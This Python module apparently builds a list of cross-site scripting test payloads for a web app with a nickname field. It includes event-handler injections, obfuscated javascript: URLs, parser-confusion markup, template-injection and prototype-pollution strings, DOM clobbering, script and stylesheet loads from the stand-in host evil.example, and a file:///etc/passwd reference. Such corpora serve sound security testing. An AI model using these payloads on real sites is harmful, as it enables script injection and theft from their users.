"""What people write who want a browser to do their will: markup, addresses, templates."""

from collections.abc import Iterator
from itertools import product

_DO = "alert(1)"
_ELSEWHERE = "//evil.example/x"
_HANDLED = {
    "img src=x": ("onerror", "onload", "onclick", "onmouseover"),
    "svg": ("onload", "onfocus", "onbegin"),
    "body": ("onload", "onpageshow", "onresize", "onhashchange"),
    "input autofocus": ("onfocus", "onblur"),
    "details open": ("ontoggle",),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "iframe": ("onload",),
    "marquee": ("onstart", "onfinish"),
    "div tabindex=1": ("onfocus", "onpointerover", "onanimationstart", "onscroll"),
    "style": ("onload",),
    "object data=x": ("onerror",),
    "b": ("onmouseenter", "onbeforecopy", "onwheel"),
    "select autofocus": ("onfocus",),
    "dialog open": ("onclose", "oncancel"),
}
_LEAVING = ("", '">', "'>", "-->", "</div>", "</bdi></span>", "</script>", "</textarea>")
_SCHEMES = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f"java&#10;script:{_DO}",
    f"&#106;avascript:{_DO}",
    f"\x01javascript:{_DO}",
    f"javascript://a.example/%0a{_DO}",
    f"javascript:https://a.example/;{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"vbscript:{_DO}",
    "blob:x",
    "file:///etc/passwd",
    _ELSEWHERE,
)
_LEADING = (
    '<a href="{}">x</a>',
    "<a href={}>x",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}">',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    "[x]({})",
    "![x]({})",
    "{}",
    "https://a.example/#{}",
)
_WHOLE = (
    f"<script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script src={_ELSEWHERE}></script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<script\x0c>{_DO}</script\n>",
    f"<script type=module>import '{_ELSEWHERE}'</script>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><script href={_ELSEWHERE} /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<template><img src=x onerror={_DO}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={_DO}>'>",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<![CDATA[<img src=x onerror={_DO}>]]>",
    f"<?xml?><img src=x onerror={_DO}>",
    f"<img src=x onerror={_DO}//",
    f"<img/src=x/onerror={_DO}>",
    f"<img src=x\nonerror\n=\n{_DO}\n>",
    f'<img src="x` `<script>{_DO}</script>"` `>',
    f"<img src=x:x onerror=\u2028{_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
    f"<link rel=stylesheet href={_ELSEWHERE}.css>",
    f"<link rel=import href={_ELSEWHERE}>",
    f"<style>@import '{_ELSEWHERE}.css';</style>",
    f"<style>*{{background:url({_ELSEWHERE}.png)}}</style>",
    f"<p style='background:url({_ELSEWHERE}.png)'>x</p>",
    f'" style="background:url({_ELSEWHERE}.png)',
    f"<img src={_ELSEWHERE}.png>",
    f"<img srcset='{_ELSEWHERE}.png 2x'>",
    f"<video poster={_ELSEWHERE}.png>",
    f"<svg><image href={_ELSEWHERE}.svg /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_DO}>#x'/></svg>",
    f"<svg><animate attributeName=href values=javascript:{_DO} /></svg>",
    f"<svg><set attributeName=onmouseover to={_DO}>",
    f"<audio src={_ELSEWHERE}.ogg autoplay>",
    f"<div is=nicegui-screen onclick={_DO}>",
    f"<x-y onclick={_DO} tabindex=0 autofocus onfocus={_DO}>",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"{{{{_openBlock.constructor('{_DO}')()}}}}",
    f"{{{{$emit.constructor`{_DO}`()}}}}",
    f"${{{_DO}}}",
    f"`${{{_DO}}}`",
    f"#{{{_DO}}}",
    f"<%= {_DO} %>",
    f"[[{_DO}]]",
    f"<div v-html=\"'<img src=x onerror={_DO}>'\"></div>",
    f'<div v-on:click="{_DO}" @mouseover="{_DO}" :onload="{_DO}">',
    f"';{_DO}//",
    f'";{_DO}//',
    f"\\';{_DO}//",
    f"</script><script>{_DO}</script>",
    f"'-{_DO}-'",
    f'"-{_DO}-"',
    f"*/{_DO}/*",
    f"\u2028{_DO}",
    f"<!--<script>{_DO}",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"\\x3cimg src=x onerror={_DO}\\x3e",
    f"\uff1cimg src=x onerror={_DO}\uff1e",
    f"\u02bb><img src=x onerror={_DO}>",
    f"<\u0131mg src=x onerror={_DO}>",
    f"<img src=x onerror={_DO}>" * 3,
    f"<form id=socket><input name=emit></form><a id=app name=innerHTML href=javascript:{_DO}>x</a>",
    "<img name=getElementById><form name=querySelector>",
    "<input form=x name=nickname><label for=c1>x</label>",
    '" data-calls="burn" x="',
    '<button data-calls="burn">x</button>',
    '<div data-key="1" data-until="0">x</div>',
    '<article class="message" data-key="1">x</article>',
    "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "__proto__[onload]=alert(1)",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    'https://a.example/" onmouseover=alert(1) x="',
    "https://a.example/' onmouseover=alert(1) x='",
    "https://a.example/`onmouseover=alert(1)`",
    "https://a.example/><img src=x onerror=alert(1)>",
    "https://a.example/</a><img src=x onerror=alert(1)>",
    "https://a.example/&quot; onmouseover=alert(1)",
    "https://javascript:alert(1)",
    "https://a.example@evil.example/",
    "HTTPS://A.EXAMPLE/\u202egpj.exe",
)


def _all() -> Iterator[str]:
    for leave, (tag, handlers) in product(_LEAVING, _HANDLED.items()):
        handler = handlers[len(leave) % len(handlers)]
        yield f"{leave}<{tag} {handler}={_DO}>"
    for tag, handlers in _HANDLED.items():
        for handler in handlers:
            yield f"<{tag}/{handler.upper()}='{_DO}'/>"
    for scheme, leading in product(_SCHEMES, _LEADING):
        yield leading.format(scheme)
    yield from _WHOLE


PAYLOADS = list(dict.fromkeys(_all()))
"""Each of them once."""

NAMES = [text for text in PAYLOADS if len(text) <= 24] + [
    "<svg onload=alert(1)>",
    "<b onclick=alert(1)>",
    "'><svg/onload=alert(1)>",
    '"onfocus="alert(1)',
    "</script><script>",
    "{{alert(1)}}",
    "<base href=//a.b>",
    "<s id=app>",
]
"""Those that a nickname has room for."""
